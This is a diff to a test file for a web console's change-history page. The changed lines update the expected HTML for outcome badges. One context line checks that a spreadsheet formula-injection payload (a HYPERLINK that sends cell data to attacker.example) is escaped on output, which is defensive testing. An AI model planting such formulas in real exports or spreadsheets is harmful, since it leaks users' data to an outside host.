@@ -164,7 +164,9 @@ describe.each(TEST_DIALECTS)('console activity (change history) on %s', (dialect
     expect(page.text).toContain('key day agent');
     expect(page.text).toContain('status: ACTIVE → PAUSED');
     expect(page.text).toContain('<code>insufficient_<wbr>scope</code>');
-    expect(page.text).toMatch(/<td class="status-failed">failed <span class="muted">403<\/span>/);
+    expect(page.text).toMatch(
+      /<td data-label="Outcome"><span class="badge badge-danger">failed<\/span> <span class="muted">403<\/span>/,
+    );
     // Escaped in HTML, never markup.
     expect(page.text).toContain('name: ');
     expect(page.text).toContain('=HYPERLINK(&quot;http://attacker.example/?leak=&quot;&amp;A1');
@@ -183,7 +185,7 @@ describe.each(TEST_DIALECTS)('console activity (change history) on %s', (dialect
     expect(page.text).toMatch(
       /<tr class="changed"><th scope="row"><span title="status">Status<\/span><\/th><td>ACTIVE<\/td><td><strong>PAUSED<\/strong>/,
     );
-    expect(page.text).toMatch(/<dt>Outcome<\/dt><dd class="status-succeeded">succeeded/);
+    expect(page.text).toMatch(/<dt>Outcome<\/dt><dd><span class="badge badge-ok">succeeded<\/span>/);
 
     const refused = await client.get(`/activity/${ids.refused}`);
     expect(refused.text).toContain('No before and after were noted for this call.');
